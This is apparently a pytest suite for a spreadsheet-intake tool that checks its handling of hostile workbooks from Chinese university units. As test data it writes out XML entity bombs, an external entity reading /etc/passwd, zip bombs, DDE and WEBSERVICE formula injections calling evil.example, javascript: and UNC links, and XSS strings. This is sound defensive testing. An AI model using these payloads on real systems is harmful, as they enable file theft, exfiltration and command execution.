"""Hostile workbooks: refused or defused, named in plain words, and dead in all that is written."""

from __future__ import annotations

import io
import json
import os
import re
import zipfile
from html.parser import HTMLParser
from typing import TYPE_CHECKING, Any

import openpyxl
import pytest
from bytewise import CELL, MAIN, package
from inprocess import reading_here
from readings import LIMITS, refusal_of
from world import World, cell_of, cover_cell, edited, find, touch

from sxxt_excel.intake.folder import folder_parcels
from sxxt_excel.package import Refusal
from sxxt_excel.read import Book, read_book
from sxxt_excel.workspace import WorkspaceError

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path


LISTS = "机械工程学院党委_责任任务清单"
HANGS = 20


# ---- refused ------------------------------------------------------------------------

BOMB = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
    + "".join(f'<!ENTITY b{n} "{f"&b{n - 1};" * 10 if n else "&a;" * 10}">' for n in range(9))
    + "]><x>&b8;</x>"
)
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
BEHIND_A_COMMENT = BOMB.replace("<!DOCTYPE", "<!-- <x> --><?x <x?>\n<!DOCTYPE")


@pytest.mark.parametrize("text", [BOMB, OUTSIDE, "\ufeff" + BOMB, BEHIND_A_COMMENT])
@pytest.mark.parametrize(
    "part", ["xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/styles.xml"]
)
def test_entities_are_refused_wherever_they_are_defined(text, part):
    assert refusal_of(package(parts={part: text})) == Refusal("F128", "内含 XML 实体定义")


@pytest.mark.parametrize("text", [BOMB, OUTSIDE])
def test_entities_are_refused_in_open_document_too(text):
    flat = text.replace(
        "<x>", '<office:document office:mimetype="application/vnd.oasis.opendocument.spreadsheet">'
    ).replace("</x>", "</office:document>")
    assert refusal_of(flat.encode(), "表.fods").code == "F128"
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("META-INF/manifest.xml", "<manifest/>")
        archive.writestr("content.xml", text)
    assert refusal_of(stream.getvalue(), "表.ods").code == "F128"


@pytest.mark.parametrize("prefix", ["", "x:"])
def test_a_long_text_in_many_cells_is_refused_before_it_is_multiplied(prefix):
    texts = "".join(f"<{prefix}si><t>{said}</t></{prefix}si>" for said in ("长" * 10_000, "短"))
    strings = f'<sst xmlns="{MAIN}" xmlns:x="{MAIN}">{texts}</sst>'

    def cells(index: int) -> str:
        return "".join(
            f'<row r="{n}"><c r="A{n}" t="s"><v>{index}</v></c></row>' for n in range(1, 20_000)
        )

    parts = {"xl/sharedStrings.xml": strings}
    assert refusal_of(package(cells(0), parts=parts)).code == "F128"
    assert isinstance(read_book(package(cells(1), parts=parts), "表.xlsx", LIMITS), Book)


def test_a_million_merged_cells_are_refused_and_a_thousand_are_not():
    def merged(count: int) -> bytes:
        ranges = "".join(f'<mergeCell ref="A{n}:B{n}"/>' for n in range(1, count))
        return package(CELL, tail=f"<mergeCells>{ranges}</mergeCells>")

    assert refusal_of(merged(1_000_000)).code == "F128"
    assert isinstance(read_book(merged(1_000), "表.xlsx", LIMITS), Book)


def test_a_zip_of_zeros_is_refusal_of():
    assert refusal_of(package(parts={"xl/media/a.png": bytes(60 << 20)})).code == "F128"


def test_a_list_of_a_hundred_thousand_members_is_refused_before_it_is_read():
    # Its list could not be read: whoever tries calls the file damaged.
    crowd = b"PK\x01\x02" * 110_000
    workbook = b"PK\x03\x04[Content_Types].xml" + crowd
    assert refusal_of(workbook) == Refusal("F106", "内部文件多于 2000 个")
    for name in ("资料.zip", "表.xlsx"):
        assert refusal_of(b"PK\x03\x04" + crowd, name) == Refusal("F105", "内容是 zip 压缩包")
    assert refusal_of(b"PK\x03\x04[Content_Types].xml" + crowd[:400]).code == "F102"


def test_a_part_that_holds_more_than_it_declares_costs_only_its_own_reading():
    raw = bytearray(package(parts={"xl/sharedStrings.xml": "<sst>" + " " * 100_000 + "</sst>"}))
    for mark, place in ((b"PK\x01\x02", 24), (b"PK\x03\x04", 22)):
        at = raw.find(mark)
        while at >= 0:
            if raw[at + place : at + place + 4] == (100_011).to_bytes(4, "little"):
                raw[at + place : at + place + 4] = (10).to_bytes(4, "little")
            at = raw.find(mark, at + 4)
    answer = read_book(bytes(raw), "表.xlsx", LIMITS)
    assert isinstance(answer, Refusal)
    assert answer.code == "F102"


@pytest.mark.timeout(HANGS)
def test_tags_that_never_end_do_not_hold_the_reader_up():
    for rows in ("<row><c r='A1'><f>" * 20_000, '<row><c r="A1" t="e">' * 20_000, "<c " * 50_000):
        answer = read_book(package(rows), "表.xlsx", LIMITS)
        assert isinstance(answer, Book | Refusal)


# ---- named --------------------------------------------------------------------------


def told(world: World, code: str) -> list[tuple[str | None, str]]:
    return [(f.where.path, f.message) for f in world.collect().findings if f.code == code]


def spoil(world: World, value: str, *, text: bool = False, link: str = "") -> Path:
    """Write a formula, or a text that looks like one, into an item of the lists."""
    path = find(world, LISTS)
    with edited(path) as book:
        sheet = book["责任清单"]
        cell = sheet[cell_of(sheet, "工作项目", 3)]
        cell.value = value
        cell.data_type = "s" if text else "f"
        if link:
            cell.hyperlink = link
    return path


@pytest.mark.parametrize(
    ("value", "link"),
    [
        ("=cmd|'/C calc'!A0", ""),
        ('=HYPERLINK("javascript:alert(1)","点我")', ""),
        ('=WEBSERVICE("http://evil.example/"&A1)', ""),
        ("", "javascript:alert(1)"),
        ("", "file:///\\\\evil.example\\share\\装.exe"),
    ],
)
def test_formulas_and_links_that_run_something_are_told(world, value, link):
    path = spoil(world, value or "普通内容", text=not value, link=link)
    assert [where for where, _ in told(world, "F129")] == [path.name]


def test_ordinary_formulas_links_and_texts_are_not_taken_for_such(world):
    spoil(world, "按“A|B”两类推进", text=True, link="https://www.example.edu.cn/通知.html")
    assert not told(world, "F129")
    spoil(world, '=IF(A3="","",A3)')
    assert not told(world, "F129")


@pytest.mark.parametrize(
    ("data", "name", "code"),
    [
        (package(parts={"xl/workbook.xml": BOMB}), "炸弹.xlsx", "F128"),
        (b"%PDF-1.7", "扫描.xlsx", "F125"),
        (b"%TSD-Header-###%\x01", "加密.xlsx", "F126"),
    ],
)
def test_a_refused_file_has_a_row_a_status_and_steps_for_both_programs(world, data, name, code):
    path = world.inbox / f"机械学院{name}"
    path.write_bytes(data)
    touch(path)
    result = world.collect()
    assert {f.path: f.status for f in result.files}[path.name] == "unreadable"
    (finding,) = (f for f in result.findings if f.where.path == path.name)
    assert (finding.code, finding.where.unit_code) == (code, "JX")
    assert "请" in finding.remedy


# ---- what is no file, or can't be had ---------------------------------------------------


def row_and_codes(world: World, path: str) -> tuple[str, list[str]]:
    """Return the status of a file of the inbox, and the codes told of it in a whole pass."""
    with reading_here():
        result = world.collect(write=True)
    (row,) = (f for f in result.files if f.path == path)
    return row.status, [f.code for f in result.findings if f.where.path == path]


def barred(patch: pytest.MonkeyPatch, module: object, name: str, path: Path, why: OSError) -> None:
    """Let a function of the system fail for one path."""
    real = getattr(module, name)

    def call(place: Any = ".", *args: Any, **more: Any) -> Any:
        if str(place) == str(path):
            raise why
        return real(place, *args, **more)

    patch.setattr(module, name, call)


def test_a_file_that_vanishes_while_the_inbox_is_listed_is_passed_over(world, monkeypatch):
    path = find(world, LISTS)
    for name in ("stat", "lstat"):
        barred(monkeypatch, os, name, path, FileNotFoundError(2, "", str(path)))
    assert path.name not in {parcel.path for parcel in folder_parcels(world.inbox)}


def test_a_file_that_may_not_even_be_asked_for_its_time_has_a_row(world, monkeypatch):
    path = find(world, LISTS)
    for name in ("stat", "lstat"):
        barred(monkeypatch, os, name, path, PermissionError(13, "", str(path)))
    assert row_and_codes(world, path.name) == ("unreadable", ["F130"])


def test_a_folder_that_cannot_be_listed_is_told(world, monkeypatch):
    folder = world.inbox / "二批"
    folder.mkdir()
    barred(monkeypatch, os, "scandir", folder, PermissionError(13, "", str(folder)))
    assert row_and_codes(world, "二批") == ("unreadable", ["F130"])


def test_an_inbox_that_cannot_be_listed_is_not_taken_for_an_empty_one(world, monkeypatch):
    barred(monkeypatch, os, "scandir", world.inbox, PermissionError(13, "", str(world.inbox)))
    with pytest.raises(WorkspaceError, match="读不了收件夹"):
        world.collect()


@pytest.mark.timeout(HANGS)
@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="Windows has no pipes among files")
def test_a_pipe_is_not_waited_for(world):
    os.mkfifo(world.inbox / "机械学院.xlsx")
    assert row_and_codes(world, "机械学院.xlsx") == ("foreign", ["F108"])


@pytest.mark.parametrize("target", ["有.xlsx", "没有.xlsx", "夹"])
def test_a_link_is_told_and_not_followed(world, tmp_path, target):
    (tmp_path / "夹").mkdir()
    (tmp_path / "有.xlsx").write_bytes(find(world, LISTS).read_bytes())
    (tmp_path / "夹" / "内.xlsx").write_bytes(b"x")
    (world.inbox / "链接.xlsx").symlink_to(tmp_path / target)
    assert row_and_codes(world, "链接.xlsx") == ("unreadable", ["F130"])
    assert [p.path for p in folder_parcels(world.inbox) if p.path.startswith("链接")] == [
        "链接.xlsx"
    ]


LIMITED = (
    ("file_mb = 1", lambda data: data + bytes(2 << 20), "文件大于"),
    ("unpacked_mb = 1", None, "解压后大于"),
    ("entries = 3", None, "内部文件多于"),
    ("rows = 1", None, "行"),
    ("columns = 1", None, "列"),
    ("cells = 2", None, "行"),
)


@pytest.mark.parametrize(("setting", "make", "fact"), LIMITED)
def test_every_limit_of_the_settings_bites_and_is_named(world, setting, make, fact):
    text = (world.root / "sxxt.toml").read_text(encoding="utf-8")
    key = setting.partition(" ")[0]
    text, count = re.subn(rf"(?m)^{key} = \d+.*$", setting, text)
    assert count == 1
    (world.root / "sxxt.toml").write_text(text, encoding="utf-8")
    path = find(world, LISTS)
    if make:
        path.write_bytes(make(path.read_bytes()))
    elif key == "unpacked_mb":
        path.write_bytes(with_part(path.read_bytes(), "xl/media/a.bin", bytes(range(256)) * 8192))
    (finding,) = (f for f in world.collect().findings if f.where.path == path.name)
    assert finding.code == "F106"
    assert fact in finding.message


def with_part(data: bytes, name: str, content: bytes) -> bytes:
    stream = io.BytesIO(data)
    with zipfile.ZipFile(stream, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return stream.getvalue()


# ---- nothing of it is alive in what is written ----------------------------------------

EVIL = "evil.example"
PAYLOADS = (
    f"=cmd|'/C calc'!A0 {EVIL}",
    f'=HYPERLINK("http://{EVIL}/x","点我")',
    f"@SUM(1+1)*cmd|' /C calc'!A0 {EVIL}",
    f"+1+cmd|' /C calc'!A0 {EVIL}",
    f'-2+3+IMPORTXML("http://{EVIL}")',
    f"<script>alert('{EVIL}')</script><img src=x onerror=alert(1)>",
    f"http://{EVIL}/点我",
    f"javascript:alert('{EVIL}')",
    f"\\\\{EVIL}\\share\\a.exe",
    f"{{{{ config }}}} {{% raw %}} {EVIL}",
)


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.alive: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if EVIL in (value or "") and (name in {"href", "src", "action"} or name[:2] == "on"):
                self.alive.append(f"{tag} {name}={value}")
        if tag in {"iframe", "object", "embed", "img"}:
            self.alive.append(tag)

    def handle_data(self, data: str) -> None:
        if self.lasttag == "script" and EVIL in data and "alert(" in data:
            self.alive.append(data)


def alive(path: Path) -> list[str]:
    """What in a file of ours would do something that a submission said."""
    data = path.read_bytes()
    if path.suffix == ".xlsx":
        return [*_formulas(data), *_links(data)]
    text = data.decode("utf-8-sig")
    if path.suffix == ".html":
        page = _Page()
        page.feed(text)
        return page.alive
    if path.suffix == ".json":
        json.loads(text)
        return []
    if path.suffix == ".csv":
        return [c for line in text.splitlines() for c in line.split(",") if c[:1] in set("=+-@")]
    return []


def _formulas(data: bytes) -> Iterator[str]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" and (EVIL in str(cell.value) or "|" in str(cell.value)):
                    yield f"{sheet.title}!{cell.coordinate} {cell.value}"


def _links(data: bytes) -> Iterator[str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.endswith(".rels"):
                for target in re.findall(r'Target="([^"]*)"', archive.read(name).decode()):
                    own = target.startswith("../inbox/")
                    if (EVIL in target and not own) or re.match(
                        r"(?i)https?:|javascript:|file:|\\\\", target
                    ):
                        yield f"{name} {target}"


@pytest.mark.parametrize("text", [True, False])
def test_no_output_holds_a_formula_or_a_live_link_of_a_submission(world, text):
    path = find(world, LISTS)
    with edited(path) as book:
        duties, tasks, cover = book["责任清单"], book["任务清单"], book["封面"]
        for number, payload in enumerate(PAYLOADS):
            for sheet, name in ((duties, "工作项目"), (tasks, "工作任务"), (tasks, "备注")):
                cell = sheet[cell_of(sheet, name, 3 + number)]
                cell.value = payload
                cell.data_type = "f" if payload[0] == "=" and not text else "s"
                cell.hyperlink = f"http://{EVIL}/{number}"
        place = cell_of(duties, "责任主体", 3)
        duties[place].value, duties[place].data_type = PAYLOADS[0], "s"
        choice = cell_of(duties, "完成情况", 4)
        duties[choice].value, duties[choice].data_type = PAYLOADS[1], "s"
        filled = cover[cover_cell(cover, "填报人")]
        filled.value, filled.data_type = PAYLOADS[5], "s"
        extra = duties.cell(2, duties.max_column + 1)
        extra.value, extra.data_type = PAYLOADS[1], "s"
        book.create_sheet("evil.example").append(list(PAYLOADS[5:7]))
    (world.inbox / f"@{EVIL}=1+1.xlsx").write_bytes(b"")
    result = world.collect(write=True)
    assert any(EVIL in f.message for f in result.findings)
    written = [
        p
        for p in world.root.rglob("*")
        if p.is_file() and world.inbox not in p.parents and p.suffix != ".toml"
    ]
    seen = [p for p in written if EVIL.encode() in _whole(p)]
    assert {p.suffix for p in seen} >= {".xlsx", ".html", ".json"}
    # A marked copy is the unit's own workbook, whose plain links stay; what runs programs does not.
    ours = [p for p in written if text is False or not p.stem.endswith("_审核意见")]
    assert {str(p.relative_to(world.root)): what for p in ours if (what := alive(p))} == {}


def _whole(path: Path) -> bytes:
    data = path.read_bytes()
    if path.suffix != ".xlsx":
        return data
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return b"".join(archive.read(name) for name in archive.namelist())
